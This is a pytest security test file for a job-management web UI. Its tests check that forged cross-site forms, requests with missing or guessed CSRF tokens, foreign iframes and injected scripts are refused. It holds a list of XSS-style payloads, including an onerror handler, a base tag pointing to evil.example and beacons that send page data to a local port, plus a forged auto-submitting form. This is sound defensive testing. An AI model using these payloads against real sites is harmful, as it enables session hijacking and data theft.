"""What other sites, and texts of other people, try on the page."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from support.api import Api
from support.bodies import store
from support.browser import Browser, LogIn
from support.callers import Account
from support.data import trips_job
from support.operator import Operator
from support.waiting import NEVER, status


@contextmanager
def other_site(html: str) -> Iterator[str]:
    """Serve a page on another port, which browsers take for the same site: cookies go along."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture
def running(api: Api) -> str:
    """The page of a started job."""
    api.create(store())
    api.create(trips_job(cron=NEVER))
    api.wait_state("trips", "started")
    return f"/ui/namespaces/{api.namespace}/jobs/trips"


def test_a_form_of_another_site_stops_nothing(
    operator: Operator, log_in: LogIn, manager: Account, api: Api, running: str
) -> None:
    browser = log_in(manager)
    browser.open(running)
    stolen = browser.run("return document.querySelector('[name=csrf]').value")
    form = f"""
        <form method="post" action="{operator.url}{running}/stop"><input name="csrf" value="{stolen}">
        <input name="timeout" value="10s"></form><script>document.forms[0].submit()</script>
    """
    with other_site(form) as url:
        browser.driver.get(url)
        assert "nothing was changed" in browser.text("main [role=alert]")
    assert status(api.get("trips"))["state"] == "started"
    assert api.get("trips")["spec"]["desiredState"] == "started"


def test_a_request_of_the_session_without_the_pages_secret_changes_nothing(
    log_in: LogIn, manager: Account, api: Api, running: str
) -> None:
    browser = log_in(manager)
    browser.open(running)
    for csrf in ("", "guess"):
        code = browser.run(
            "return fetch(arguments[0], {method: 'POST', body: new URLSearchParams({csrf: arguments[1]})})"
            ".then(answer => answer.status)",
            f"{running}/stop",
            csrf,
        )
        assert code == 403
    assert api.get("trips")["spec"]["desiredState"] == "started"


def test_no_other_site_shows_the_page_in_a_frame(
    operator: Operator, log_in: LogIn, manager: Account, running: str
) -> None:
    browser = log_in(manager)
    with other_site(f'<iframe id="page" src="{operator.url}{running}"></iframe>') as url:
        browser.driver.get(url)
        browser.until(lambda: refusals(browser), "a refusal")
        browser.driver.switch_to.frame(browser.one("#page"))
        assert browser.all("#state, form, h1[id]") == []
        browser.driver.switch_to.default_content()


SMUGGLED = (
    """document.body.insertAdjacentHTML("beforeend", "<img src='x' onerror='window.pwned = 1'>")""",
    """const s = document.createElement("script"); s.textContent = "window.pwned = 1"; document.body.append(s)""",
    """const s = document.createElement("script"); s.src = "data:text/javascript,window.pwned=1";
       document.body.append(s)""",
    """const b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b)""",
    """document.body.insertAdjacentHTML("beforeend", "<p style='position:fixed'>x</p>")""",
    """fetch("http://127.0.0.1:9/?" + document.title).catch(() => {})""",
    """new Image().src = "http://127.0.0.1:9/?leak" """,
)


def test_what_gets_into_the_page_runs_nothing_and_sends_nothing(log_in: LogIn, manager: Account) -> None:
    browser = log_in(manager)
    for script in SMUGGLED:
        browser.run(script)
        browser.until(lambda: refusals(browser), f"a refusal of {script}")
    assert browser.run("return window.pwned") is None


REFUSED = ["Content Security Policy", "X-Frame-Options"]


def refusals(browser: Browser) -> list[str]:
    browser.expected = REFUSED
    return [message for message in browser.messages() if any(part in message for part in REFUSED)]
